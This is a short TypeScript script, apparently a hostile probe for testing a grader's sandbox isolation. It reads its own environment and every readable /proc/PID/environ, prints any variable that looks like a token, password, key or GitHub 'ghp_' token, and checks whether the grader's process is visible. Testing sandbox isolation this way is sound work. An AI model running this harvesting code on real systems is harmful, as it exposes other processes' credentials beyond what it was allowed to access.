// Hostile: looks for secrets in its own environment and in every /proc/PID/environ it can read
// (the grader's, its parents', anyone's) and prints them; says whether it can see a process of
// the grader's (argv: nonce [host pid]).
import fs from 'node:fs';

const graderPid = process.argv[3];

const SECRET_NAME = /TOKEN|SECRET|PASSWORD|KEY|CREDENTIAL/i;
let readable = 0;
let secrets = 0;

function report(where: string, entries: string[]): void {
  for (const entry of entries) {
    const name = entry.slice(0, entry.indexOf('='));
    if (SECRET_NAME.test(name) || /ghp_/.test(entry)) {
      secrets++;
      console.log(`secret in ${where}: ${entry}`);
    }
  }
}

report('process.env', Object.entries(process.env).map(([name, value]) => `${name}=${value ?? ''}`));
console.log(`own variables: ${Object.keys(process.env).sort().join(',')}`);
let pids: string[] = [];
try {
  pids = fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name));
} catch {
  // no /proc
}
for (const pid of ['self', ...pids]) {
  try {
    const entries = fs.readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0').filter(Boolean);
    readable++;
    report(`/proc/${pid}/environ`, entries);
  } catch {
    // not ours to read
  }
}
if (graderPid !== undefined) console.log(`sees the grader's process: ${fs.existsSync(`/proc/${graderPid}`) ? 'yes' : 'no'}`);
console.log(`environ files read: ${readable}; secrets found: ${secrets}`);
